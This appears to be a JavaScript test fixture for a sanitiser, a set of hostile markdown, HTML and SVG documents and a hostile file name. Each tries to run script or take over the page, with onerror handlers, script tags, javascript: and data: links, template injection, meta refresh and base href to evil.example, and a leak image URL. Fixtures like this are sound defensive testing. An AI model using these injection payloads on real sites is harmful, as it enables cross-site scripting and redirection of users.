// Documents that try to run something, or to be taken for a part of the page. Each sets `window.owned` if it succeeds.
export const hostile = {
  'markup.md': `# Zanzibar <img src=x onerror="window.owned='md img'">

The zanzibar protocol says <script>window.owned='md script'</script> that the kettle is blue.

[click](javascript:window.owned='md link') ![picture](https://evil.example/leak?q=zanzibar "onload=window.owned=1")

<iframe srcdoc="<script>parent.owned='md frame'</script>"></iframe> <svg onload="window.owned='md svg'"></svg>
`,
  'page.html': `<!doctype html><title>Zanzibar <script>window.owned='title'</script></title>
<body onload="window.owned='onload'"><h1>Zanzibar kettle</h1><p>The zanzibar kettle is boiled at &lt;img src=x onerror=window.owned='entity'&gt; ninety degrees.</p>
<script>window.owned='html script'</script><style>body{display:none}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></body>`,
  '"><img src=x onerror=window.owned=1>.txt': `The zanzibar file has a hostile name. {{constructor.constructor('window.owned=2')()}} \${window.owned=3}
`,
  'drawing.svg.txt': `<svg xmlns="http://www.w3.org/2000/svg"><script>window.owned='svg'</script><text>The zanzibar drawing shows a kettle.</text><a href="javascript:window.owned=1"><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></a></svg>
`,
  'marks.md': `---
title: "</a><script>window.owned='front matter'</script>"
category: "<img src=x onerror=owned=4>"
---
# </p></article><script>window.owned='heading'</script>

The zanzibar marks end here \u202e\u2066 [1] 【2】 and [zanzibar](data:text/html,<script>window.owned=5</script>).
`,
};
